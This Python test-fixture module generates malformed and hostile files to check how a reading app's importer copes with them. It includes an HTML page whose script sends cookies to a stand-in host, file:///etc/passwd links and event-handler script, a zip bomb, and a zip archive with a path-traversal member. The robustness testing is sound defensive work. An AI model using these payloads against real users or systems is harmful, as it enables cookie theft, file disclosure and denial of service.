"""A corpus of broken and hostile files, made at test time (nothing large is committed).

Each maker writes one file into a folder and returns its path. docs/robustness.md lists
what the app does with each.
"""

from __future__ import annotations

import io
import random
import sqlite3
import zipfile
from collections.abc import Callable
from pathlib import Path

ENGLISH = (
    "City Opens a New River Park\n\n"
    "The city opened a new park beside the river on Monday.\n\n"
    "Families walked along the water and children played on the grass.\n\n"
    "The park took three years to build, officials said.\n"
)
JAPANESE = "市は月曜日、川沿いに新しい公園を開きました。\n"

HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Hostile page</title>
<meta http-equiv="refresh" content="0; url=http://tracker.invalid/">
<link rel="stylesheet" href="http://tracker.invalid/style.css">
<script src="http://tracker.invalid/x.js"></script>
<script>fetch("http://tracker.invalid/steal?c=" + document.cookie)</script>
<style>@import url("http://tracker.invalid/a.css"); body { background: url(file:///etc/passwd) }</style>
</head><body onload="alert(1)">
<h1>City Opens a New River Park</h1>
<p>The city opened a new park beside the river on Monday.<img src="http://tracker.invalid/pixel.gif"></p>
<p>Families walked along the water.<img src="file:///etc/passwd" onerror="alert(2)"></p>
<p>Read <a href="file:///etc/passwd">the local file</a>, <a href="javascript:alert(3)">a script link</a>
and <a href="https://example.org/park">the city's page</a>.</p>
<iframe src="http://tracker.invalid/frame"></iframe>
<object data="http://tracker.invalid/flash.swf"></object>
<p>市は月曜日、川沿いに新しい公園を開きました。</p>
</body></html>
"""


def empty(folder: Path) -> Path:
    p = folder / "empty.txt"
    p.write_bytes(b"")
    return p


def blank(folder: Path) -> Path:
    p = folder / "blank.txt"
    p.write_bytes(b" \n\n\t\r\n\xe3\x80\x80\n")
    return p


def binary(folder: Path) -> Path:
    p = folder / "photo.txt"  # a picture with a text file's name
    p.write_bytes(b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(20000))
    return p


def nul_in_text(folder: Path) -> Path:
    p = folder / "nul_in_text.txt"
    p.write_bytes(ENGLISH.encode() + b"\x00\x00\x00" + JAPANESE.encode())
    return p


def invalid_utf8_middle(folder: Path) -> Path:
    p = folder / "invalid_utf8_middle.txt"
    text = ENGLISH.encode()
    half = len(text) // 2
    p.write_bytes(text[:half] + b"\xff\xfe\x80\xc3" + text[half:] + JAPANESE.encode())
    return p


def mixed_encodings(folder: Path) -> Path:
    p = folder / "mixed_encodings.txt"
    p.write_bytes(ENGLISH.encode() + b"\n" + JAPANESE.encode("shift_jis") + JAPANESE.encode("utf-8"))
    return p


def utf16_cut(folder: Path) -> Path:
    p = folder / "utf16_cut.txt"
    data = (ENGLISH + JAPANESE).encode("utf-16-le")
    p.write_bytes(data[: len(data) // 2 + 1])  # cut off mid-character, and without a BOM
    return p


def long_line(folder: Path) -> Path:
    p = folder / "long_line.txt"
    words = "the river park opened on monday and families walked along the water ".split()
    rng = random.Random(2)
    p.write_text("One Long Line\n\n" + " ".join(rng.choice(words) for _ in range(200_000)) + ".\n", encoding="utf-8")
    return p


def deeply_nested_html(folder: Path) -> Path:
    p = folder / "nested.html"
    depth = 20_000
    p.write_text(
        "<html><body>" + "<div>" * depth + ENGLISH.replace("\n\n", "</p><p>") + "</div>" * depth + "</body></html>",
        encoding="utf-8",
    )
    return p


def hostile_html(folder: Path) -> Path:
    p = folder / "hostile.html"
    p.write_text(HOSTILE_HTML, encoding="utf-8")
    return p


def hostile_html_as_text(folder: Path) -> Path:
    p = folder / "hostile_saved_as.txt"
    p.write_text(HOSTILE_HTML.replace("<!DOCTYPE html>\n<html>", "Saved page\n<html>"), encoding="utf-8")
    return p


def malformed_epub(folder: Path) -> Path:
    p = folder / "malformed.epub"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", "application/epub+zip")
        z.writestr("META-INF/container.xml", "<container><rootfiles><rootfile full-path='missing.opf'/>")
        z.writestr("OEBPS/chapter.xhtml", "<html><body><p>" + ENGLISH + "</p>")
    data = buf.getvalue()
    p.write_bytes(data[: len(data) - 40])  # and cut short: the central directory is broken
    return p


def zip_bomb(folder: Path) -> Path:
    """An EPUB-looking zip whose one chapter inflates to 100 MB of zeros (about 100 KB on disk)."""
    p = folder / "bomb.epub"
    chunk = b"\0" * (1 << 20)
    with zipfile.ZipFile(p, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("mimetype", "application/epub+zip", compress_type=zipfile.ZIP_STORED)
        z.writestr(
            "META-INF/container.xml",
            '<container><rootfiles><rootfile full-path="content.opf"/></rootfiles></container>',
        )
        with z.open("chapter.xhtml", "w", force_zip64=True) as f:
            for _ in range(100):
                f.write(chunk)
    return p


def escaping_pack(folder: Path) -> Path:
    """A lesson pack whose member path climbs out of any folder it is unpacked into."""
    p = folder / "escape.studypack"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("manifest.json", '{"format": "study-reader-pack", "version": 1, "lessons": ["../../escaped.txt"]}')
        z.writestr("../../escaped.txt", ENGLISH)
    return p


def sqlite_file(folder: Path) -> Path:
    p = folder / "library_copy.txt"
    conn = sqlite3.connect(p)
    conn.execute("CREATE TABLE t (x)")
    conn.execute("INSERT INTO t VALUES ('The city opened a new park.')")
    conn.commit()
    conn.close()
    return p


def a_folder(folder: Path) -> Path:
    p = folder / "a_folder.txt"
    p.mkdir()
    return p


def huge_text(folder: Path, megabytes: int = 200) -> Path:
    """A real text file of `megabytes` MB (written a megabyte at a time)."""
    p = folder / "huge.txt"
    line = ("The city opened a new park beside the river on Monday. " * 18 + "\n").encode()
    block = line * ((1 << 20) // len(line) + 1)
    block = block[: 1 << 20]
    with p.open("wb") as f:
        for _ in range(megabytes):
            f.write(block)
    return p


MAKERS: dict[str, Callable[[Path], Path]] = {
    "empty": empty,
    "blank": blank,
    "binary": binary,
    "nul_in_text": nul_in_text,
    "invalid_utf8_middle": invalid_utf8_middle,
    "mixed_encodings": mixed_encodings,
    "utf16_cut": utf16_cut,
    "long_line": long_line,
    "deeply_nested_html": deeply_nested_html,
    "hostile_html": hostile_html,
    "hostile_html_as_text": hostile_html_as_text,
    "malformed_epub": malformed_epub,
    "zip_bomb": zip_bomb,
    "escaping_pack": escaping_pack,
    "sqlite_file": sqlite_file,
    "a_folder": a_folder,
}

# What the app does with each file today: "refused" (one line, library unchanged), "imported"
# (a whole lesson, shown as plain text), or "either" where a later importer may rightly do
# the other (the outcome is then checked for safety, not pinned).
EXPECTED: dict[str, str] = {
    "empty": "refused",
    "blank": "refused",
    "binary": "refused",
    "nul_in_text": "refused",
    "invalid_utf8_middle": "imported",
    "mixed_encodings": "either",
    "utf16_cut": "imported",
    "long_line": "imported",
    "deeply_nested_html": "imported",
    "hostile_html": "imported",
    "hostile_html_as_text": "imported",
    "malformed_epub": "refused",
    "zip_bomb": "refused",
    "escaping_pack": "refused",
    "sqlite_file": "refused",
    "a_folder": "refused",
    "huge": "refused",
}


def make_corpus(folder: Path) -> dict[str, Path]:
    """Every broken file (the 200 MB one included), in `folder`."""
    corpus = {name: make(folder) for name, make in MAKERS.items()}
    corpus["huge"] = huge_text(folder)
    return corpus
